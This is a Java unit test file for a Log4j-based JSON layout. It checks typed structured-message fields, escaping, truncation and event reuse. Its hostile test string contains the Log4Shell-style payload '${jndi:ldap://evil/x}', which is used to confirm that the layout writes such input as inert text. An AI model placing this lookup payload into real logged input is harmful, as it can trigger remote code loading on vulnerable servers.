package dev.log4jpool.layout;

import static dev.log4jpool.layout.LayoutTesting.builder;
import static dev.log4jpool.layout.LayoutTesting.encode;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import dev.log4jpool.message.StructuredMessage;
import java.util.List;
import org.apache.logging.log4j.core.LogEvent;
import org.apache.logging.log4j.core.impl.Log4jLogEvent;
import org.apache.logging.log4j.core.impl.MutableLogEvent;
import org.apache.logging.log4j.util.StringBuilderFormattable;
import org.junit.jupiter.api.Test;

class StructuredMessageJsonTest {
    private final PooledJsonLayout layout = builder().build();

    @Test
    void writesTypedFieldsAfterTheMessage() {
        JsonNode json = encode(layout, Events.event(StructuredMessage.of("order placed")
                .with("orderId", 42L).with("amount", 9.99).with("express", true).with("customer", "alice")
                .with("items", 3).with("min", Long.MIN_VALUE).with("tiny", 1e-300).with("neg", -0.5)));
        assertEquals(List.of("@timestamp", "level", "logger", "thread", "message", "orderId", "amount", "express", "customer",
                "items", "min", "tiny", "neg"), Json.keys(json));
        assertEquals("order placed", json.get("message").textValue());
        assertTrue(json.get("orderId").isIntegralNumber());
        assertEquals(42L, json.get("orderId").longValue());
        assertTrue(json.get("amount").isFloatingPointNumber());
        assertEquals(9.99, json.get("amount").doubleValue());
        assertTrue(json.get("express").isBoolean() && json.get("express").booleanValue());
        assertEquals("alice", json.get("customer").textValue());
        assertEquals(3, json.get("items").intValue());
        assertEquals(Long.MIN_VALUE, json.get("min").longValue());
        assertEquals(1e-300, json.get("tiny").doubleValue());
        assertEquals(-0.5, json.get("neg").doubleValue());
    }

    @Test
    void nanAndInfinitiesAreStrings() {
        JsonNode json = encode(layout, Events.event(StructuredMessage.of("m").with("nan", Double.NaN)
                .with("inf", Double.POSITIVE_INFINITY).with("ninf", Double.NEGATIVE_INFINITY).with("boxed", (Object) Float.NaN)));
        assertEquals("NaN", json.get("nan").textValue());
        assertEquals("Infinity", json.get("inf").textValue());
        assertEquals("-Infinity", json.get("ninf").textValue());
        assertEquals("NaN", json.get("boxed").textValue());
    }

    @Test
    void objectsKeepTheirTypeOrBecomeText() {
        StringBuilder mutable = new StringBuilder("before");
        StringBuilderFormattable formattable = buffer -> buffer.append("formatted");
        StructuredMessage message = StructuredMessage.of("m").with("long", (Object) 5L).with("int", (Object) 6)
                .with("double", (Object) 1.5).with("bool", (Object) Boolean.FALSE).with("text", mutable)
                .with("formattable", (Object) formattable).with("list", (Object) List.of(1, 2));
        mutable.setLength(0);
        mutable.append("after"); // copied when added: the JSON keeps "before"
        JsonNode json = encode(layout, Events.event(message));
        assertEquals(5L, json.get("long").longValue());
        assertTrue(json.get("int").isIntegralNumber());
        assertEquals(1.5, json.get("double").doubleValue());
        assertTrue(json.get("bool").isBoolean());
        assertEquals("before", json.get("text").textValue());
        assertEquals("formatted", json.get("formattable").textValue());
        assertEquals("[1, 2]", json.get("list").textValue());
    }

    @Test
    void aRepeatedKeyKeepsItsLastValue() {
        JsonNode json = encode(layout, Events.event(StructuredMessage.of("m").with("k", 1).with("k", "two")));
        assertEquals("two", json.get("k").textValue());
    }

    @Test
    void aValueWhoseToStringLogsDoesNotDisturbTheOuterMessage() {
        CapturingDestination inner = new CapturingDestination();
        Object chatty = new Object() {
            @Override
            public String toString() {
                // Logs a structured message of its own while the outer one is being built.
                layout.encode(Events.event(StructuredMessage.of("inner").with("depth", 2)), inner);
                return "chatty";
            }
        };
        StructuredMessage outer = StructuredMessage.of("outer").with("before", 1).with("value", chatty).with("after", 3);
        JsonNode json = encode(layout, Events.event(outer));
        assertEquals("outer", json.get("message").textValue());
        assertEquals(1, json.get("before").intValue());
        assertEquals("chatty", json.get("value").textValue());
        assertEquals(3, json.get("after").intValue());
        JsonNode innerJson = Json.parse(inner.lines().get(0));
        assertEquals("inner", innerJson.get("message").textValue());
        assertEquals(2, innerJson.get("depth").intValue());
    }

    @Test
    void fieldsSurviveLog4jsReusableEventAndItsRecycling() {
        // As Log4j's ReusableLogEventFactory does: the event takes the message over, is written, cleared, reused.
        MutableLogEvent event = new MutableLogEvent();
        for (int i = 0; i < 1_000; i++) {
            event.setLevel(org.apache.logging.log4j.Level.INFO);
            event.setLoggerName("l");
            event.setTimeMillis(Events.EPOCH_MILLIS + i);
            event.setMessage(StructuredMessage.of("n" + i).with("i", i).with("half", i / 2.0));
            assertEquals("n" + i + " {\"i\":" + i + ",\"half\":" + (i / 2.0) + "}", event.getFormattedMessage(),
                    "readable text for other layouts");
            JsonNode json = encode(layout, event);
            assertEquals("n" + i, json.get("message").textValue());
            assertEquals(i, json.get("i").intValue());
            assertEquals(i / 2.0, json.get("half").doubleValue());
            event.clear();
        }
    }

    @Test
    void aCopiedEventKeepsItsTypedFieldsAfterTheOriginalIsReused() {
        // What Log4j's AsyncAppender does: copy the event (a memento), let the original be cleared and reused.
        MutableLogEvent event = Events.event(StructuredMessage.of("one").with("n", 1).with("ok", true));
        LogEvent copy = Log4jLogEvent.createMemento(event);
        event.clear();
        for (int i = 0; i < 1_000; i++) {
            event.setMessage(StructuredMessage.of("two").with("n", 2).with("other", "x"));
            event.clear();
        }
        JsonNode json = encode(layout, copy);
        assertEquals("one", json.get("message").textValue());
        assertTrue(json.get("n").isIntegralNumber());
        assertEquals(1, json.get("n").intValue());
        assertTrue(json.get("ok").isBoolean() && json.get("ok").booleanValue());
        assertTrue(!json.has("other"), json.toString());
    }

    private static final String NASTY = "q\"b\\s/\b\f\n\r\t\u0001\u001f\u007f é \uD83D\uDE00 lone\uD800 rev\uDC00\uD800 "
            + "${jndi:ldap://evil/x} {\"k\":1} \\\" }";

    private static StructuredMessage nasty() {
        return StructuredMessage.of(NASTY).with(NASTY, NASTY).with("n", -7L).with("d", 2.5e-7).with("b", false)
                .with("sb", new StringBuilder(NASTY)).with("nul", (Object) null).with("{", "}").with("\\", "\"");
    }

    @Test
    void everyCarrierOfTheTextGivesTheSameObject() {
        // The message itself (thread locals off: a plain Log4jLogEvent holds it), Log4j's reusable
        // event, and a copy of that event (AsyncAppender): one and the same JSON.
        LogEvent direct = Log4jLogEvent.newBuilder().setLevel(org.apache.logging.log4j.Level.INFO)
                .setLoggerName("shop.Orders").setThreadName("main").setTimeMillis(Events.EPOCH_MILLIS)
                .setMessage(nasty().memento()).build();
        MutableLogEvent reusable = Events.event(nasty());
        LogEvent copied = Log4jLogEvent.createMemento(reusable);
        String expected = LayoutTesting.encodeToText(layout, direct);
        assertEquals(expected, LayoutTesting.encodeToText(layout, reusable));
        assertEquals(expected, LayoutTesting.encodeToText(layout, copied));
        JsonNode json = encode(layout, reusable);
        String sanitized = NASTY.replace("lone\uD800", "lone\uFFFD").replace("rev\uDC00\uD800", "rev\uFFFD\uFFFD");
        assertEquals(sanitized, json.get("message").textValue());
        assertEquals(sanitized, json.get(sanitized).textValue());
        assertEquals(sanitized, json.get("sb").textValue());
        assertEquals(-7L, json.get("n").longValue());
        assertTrue(json.get("d").isFloatingPointNumber());
        assertEquals(2.5e-7, json.get("d").doubleValue());
        assertTrue(json.get("b").isBoolean() && !json.get("b").booleanValue());
        assertTrue(json.get("nul").isNull());
        assertEquals("}", json.get("{").textValue());
        assertEquals("\"", json.get("\\").textValue());
    }

    @Test
    void splicedFieldsAreWrittenAsTheLayoutWritesMapEntries() {
        // maxStringLength, the truncation marker and ASCII mode apply to spliced keys and values
        // exactly as to any other run-time key and value (here a StringMapMessage's, sorted by key).
        for (PooledJsonLayout configured : new PooledJsonLayout[] {
            builder().setMessageKey("").build(),
            builder().setMessageKey("").setMaxStringLength(6).build(),
            builder().setMessageKey("").setCharset("US-ASCII").setMaxStringLength(9).build()}) {
            String key = "k\u00e9y\uD83D\uDE00\n\"long key";
            String value = "v\u00e0lue\uD83D\uDE00\u0002\\long value";
            StructuredMessage structured = StructuredMessage.of("m").with("a" + key, value).with("b" + key, "x")
                    .with("c", NASTY);
            org.apache.logging.log4j.message.StringMapMessage map = new org.apache.logging.log4j.message.StringMapMessage()
                    .with("a" + key, value).with("b" + key, "x").with("c", NASTY);
            assertEquals(LayoutTesting.encodeToText(configured, Events.event(map)),
                    LayoutTesting.encodeToText(configured, Events.event(structured)));
        }
    }

    @Test
    void aMessageThatLooksLikeJsonIsStillTheMessage() {
        for (String text : new String[] {"ends with }", "{\"a\":1}", "x {\"a\":1}", "\\", "\"", "", " ", "{", "}"}) {
            JsonNode json = encode(layout, Events.event(StructuredMessage.of(text)));
            assertEquals(text, json.get("message").textValue());
            assertEquals(List.of("@timestamp", "level", "logger", "thread", "message"), Json.keys(json));
            JsonNode withField = encode(layout, Events.event(StructuredMessage.of(text).with("a", 2)));
            assertEquals(text, withField.get("message").textValue());
            assertEquals(2, withField.get("a").intValue());
        }
        JsonNode nullMessage = encode(layout, Events.event(StructuredMessage.of(null).with("a", 1)));
        assertEquals("null", nullMessage.get("message").textValue()); // as logger.info((String) null) (NullMessageTest)
        assertEquals(1, nullMessage.get("a").intValue());
    }

    @Test
    void textForgedWithTheFormatButNotOursIsWrittenWhole() {
        // Only StructuredMessage makes this text; anything else with its format is written as text.
        for (String text : new String[] {"no object", "x {", "x {\"a\"}", "x{\"a\":1}", "x {\"a\":1,}", "x {\"a\":[1]}",
                "x {\"a\":\"\\q\"}", "}", "x {\"a\":1}}"}) {
            LogEvent event = Log4jLogEvent.newBuilder().setLevel(org.apache.logging.log4j.Level.INFO).setLoggerName("l")
                    .setMessage(new org.apache.logging.log4j.core.impl.MementoMessage(text, StructuredMessage.FORMAT, null))
                    .build();
            JsonNode json = encode(layout, event);
            assertEquals(text, json.get("message").textValue(), json.toString());
            assertEquals(List.of("@timestamp", "level", "logger", "thread", "message"), Json.keys(json));
        }
    }
}
